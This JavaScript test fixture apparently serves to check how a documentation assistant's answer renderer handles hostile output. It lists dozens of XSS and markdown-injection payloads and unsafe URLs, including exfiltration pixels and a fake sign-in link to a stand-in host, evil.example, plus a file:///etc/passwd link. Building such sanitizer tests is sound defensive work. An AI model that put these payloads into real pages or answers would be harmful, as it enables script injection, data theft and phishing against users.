// What a hostile page, model or index could put into an answer. Each would run script, ask another host, or dress as the site.

const RUN = "window.hit=(window.hit||0)+1";
const HOST = 'https://evil.example';

export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<form action="${HOST}/steal"><button formaction="javascript:${RUN}">Send</button></form>`,
  `<style>@import '${HOST}/x.css';body{display:none}</style><link rel=stylesheet href="${HOST}/x.css">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href="${HOST}/">`,
  `<a href="javascript:${RUN}" onclick="${RUN}">click</a>`,
  `<div style="position:fixed;inset:0;background:url(${HOST}/b.png)" id="root" class="ask-docs-launcher">over</div>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x-card onclick="${RUN}" data-ask-docs="How do I pay?">card</x-card>`,
  `![pixel](${HOST}/pixel.png?q=secret)`,
  `![pixel][p]\n\n[p]: ${HOST}/pixel.png`,
  `[click](javascript:${RUN}) [click](JaVaScRiPt:${RUN}) [click](java\tscript:${RUN}) [click](&#106;avascript:${RUN})`,
  `[click](data:text/html,<script>${RUN}</script>) [click](vbscript:x) [click](blob:${HOST}/1) [click](file:///etc/passwd)`,
  `[click](//evil.example/x) [click](/\\evil.example) [click](\\\\evil.example) [click](https:evil.example) [click](https://site@evil.example/)`,
  `[Sign in again](${HOST}/login) <${HOST}/auto> ${HOST}/bare www.evil.example`,
  `[click](<javascript:${RUN}> "title\\" onmouseover=\\"${RUN}")`,
  '```html"><script>window.hit=1</script>\n</code></pre><img src=x onerror="window.hit=1">\n```',
  '`</code><script>window.hit=1</script>` **<b onmouseover="window.hit=1">bold</b>**',
  '| a |\n| --- |\n| <img src=x onerror="window.hit=1"> [x](javascript:window.hit=1) |',
  '[99] [__proto__] [constructor] [1](javascript:window.hit=1)',
  '\ue000<img src=x onerror=window.hit=1>\ue001 \ue0001\ue001',
  '<a name=body></a><a id=location></a><form name=document></form><img name=cookie>',
  '\u202egnp.exe \u200b<scr\u0000ipt>window.hit=1</scr\u0000ipt>',
  '<!--><img src=x onerror=window.hit=1>--> <![CDATA[><script>window.hit=1</script>]]>',
];

export const EVIL_URLS = [
  `javascript:${RUN}`,
  ` javascript:${RUN}`,
  `data:text/html,<script>opener.${RUN}</script>`,
  '//evil.example/x',
  '/\\evil.example',
  'https://user:word@evil.example/',
  'vbscript:x',
  '" onmouseover="window.hit=1',
];
